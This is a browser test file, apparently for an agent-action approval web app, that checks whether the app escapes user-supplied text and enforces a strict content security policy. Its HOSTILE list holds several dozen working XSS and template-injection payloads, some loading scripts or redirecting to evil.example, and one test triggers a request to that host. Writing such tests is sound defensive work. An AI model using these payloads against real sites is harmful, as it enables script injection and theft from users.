import { beforeEach, expect, it } from 'vitest'
import { describeInBrowser, type Visitor } from '../support/browser.ts'
import { keysArea } from '../support/page-keys-answers.ts'
import { samplePending, sampleReview } from '../support/page-samples.ts'
import { usePageSuite } from '../support/page-suite.ts'

/** One of each way by which text became script or markup somewhere: elements, attributes, addresses, templates, parsers. */
const HOSTILE = [
  'javascript:alert(1)',
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '<ScRiPt >alert(1)</sCrIpT >',
  '<script src=//evil.example/x.js></script>',
  '<script src="data:text/javascript,alert(1)"></script>',
  '"><svg/onload=alert(1)>',
  '<svg><script>alert&#40;1&#41;</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y="20">Approve</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">Approve</a>',
  '<a href="java\tscript:alert(1)">Approve</a>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<body onload=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>*{display:none}</style>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example/"><button>Approve</button></form>',
  '<template><img src=x onerror=alert(1)></template>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "'-alert(1)-'",
  '`${alert(1)}`',
  '";alert(1);//',
  '</textarea><script>alert(1)</script>',
  '</title></style></script><script>alert(1)</script>',
  '{{constructor.constructor("alert(1)")()}}',
  '<%= system("id") %>',
  '&lt;img src=x onerror=alert(1)&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '%3Cscript%3Ealert(1)%3C/script%3E',
]

/** What the strings would make if any of them were read as markup; the page's own sheet and script are outside `main`. */
const MADE =
  'main :is(img, script, iframe, object, embed, style, base, link, meta, form, svg, math, video, marquee, template, input)'

describeInBrowser('script and markup in the words of others', () => {
  const area = keysArea()
  const suite = usePageSuite(area)
  let visitor: Visitor

  beforeEach(async () => {
    visitor = await suite.visit()
  })
  const open = async (): Promise<void> => {
    await visitor.page.goto(`/a/${sampleReview().id}`)
    await visitor.page.locator('.caller-box').waitFor()
  }
  const expectNoLink = async (): Promise<void> =>
    expect(await visitor.page.locator('main a[href*="evil"], main a[href^="java"]').count()).toBe(0)
  const expectHarmless = async (): Promise<void> => {
    await visitor.page.waitForLoadState('networkidle')
    await expectNoLink()
    // Incidents are dialogs, reports of the strict CSP, uncaught errors, and requests to other hosts.
    expect(visitor.incidents).toEqual([])
    expect(new URL(visitor.page.url()).origin).toBe(suite.server().url)
  }

  it('a strict CSP and text nodes: no script, dialog or CSP report from action, keys or values (T17, T45)', async () => {
    // Several a page, which costs most of the time; only an address must stand first to be one.
    for (let at = 0; at < HOSTILE.length; at += 6) {
      const texts = HOSTILE.slice(at, at + 6)
      const all = texts.join(' ')
      const each = Object.fromEntries(texts.map((text) => [text, [text, { [text]: text }]]))
      suite.server().state.review = sampleReview(
        { action: all, may_decide: false },
        { ...Object.fromEntries(texts.map((text) => [text, text])), reason: all, tool_arguments: each },
      )
      await open()
      const shown = (await visitor.page.locator('.caller-box').innerText()).replaceAll('[U+0009]', '\t')
      for (const text of texts) expect(shown.split(text).length - 1, text).toBeGreaterThanOrEqual(8)
      expect(await visitor.page.locator(MADE).count(), all).toBe(0)
      await expectNoLink()
      expect(visitor.incidents, all).toEqual([])
    }
    await expectHarmless()
  })

  it('none from any other place a caller, an owner or a voter can write to (T17, T45)', async () => {
    const all = HOSTILE.join(' ')
    suite.server().state.review = sampleReview(
      {
        action: all,
        requested_by: { key_name: all, account_name: all, key_revoked: undefined },
        may_decide: false,
        votes: [
          {
            approver: 'aa11bb22cc33dd44',
            delegate: undefined,
            decision: 'approved',
            ...Object({ method: all }),
            at: new Date().toISOString(),
            mine: false,
            comment: all,
          },
        ],
      },
      {
        ...Object.fromEntries(HOSTILE.map((text, index) => [text, { [text]: [text, index] }])),
        agent_name: all,
        tool_arguments_fingerprint: all,
        risk_arg_findings: [{ detector: all, severity: all, snippet: all, [all]: all }],
      },
    )
    await open()
    const shown = (await visitor.page.locator('main').innerText()).replaceAll('[U+0009]', '\t')
    for (const text of HOSTILE) expect(shown).toContain(text)
    expect(await visitor.page.locator(MADE).count()).toBe(0)
    await expectHarmless()
  })

  it('none from the list of what waits and the names of keys and passkeys (T17, T45)', async () => {
    const all = HOSTILE.join(' ')
    const { state } = suite.server()
    state.pending = [
      samplePending({
        action: all,
        requested_by: { key_name: all, account_name: all, key_revoked: undefined },
      }),
      // Of another account: only then the names of accounts are shown.
      samplePending({ id: 'req_2' }),
    ]
    for (const entry of [...area.keys, ...state.factors.passkeys]) entry.name = all
    for (const [path, places] of [
      ['/', 3],
      ['/account', 1],
      ['/keys', 1],
    ] as const) {
      await visitor.page.goto(path)
      await visitor.page.locator('.entry, .inbox-row').first().waitFor()
      const shown = (await visitor.page.locator('main').innerText()).replaceAll('[U+0009]', '\t')
      for (const text of HOSTILE)
        expect(shown.split(text).length - 1, `${path} ${text}`).toBeGreaterThanOrEqual(places)
    }
    await expectHarmless()
  })

  it('would notice a violation: the watch itself works', async () => {
    await open()
    await visitor.page.evaluate(
      `document.body.append(Object.assign(new Image(), { src: 'https://evil.example/x' }))`,
    )
    await expect.poll(() => visitor.incidents.join()).toContain('img-src https://evil.example/x')
    const assigned: unknown = await visitor.page.evaluate(
      `(() => { try { document.body.innerHTML = '<b>x</b>'; return 'ran' } catch (error) { return error.name } })()`,
    )
    expect(assigned).toBe('TypeError')
  })
})
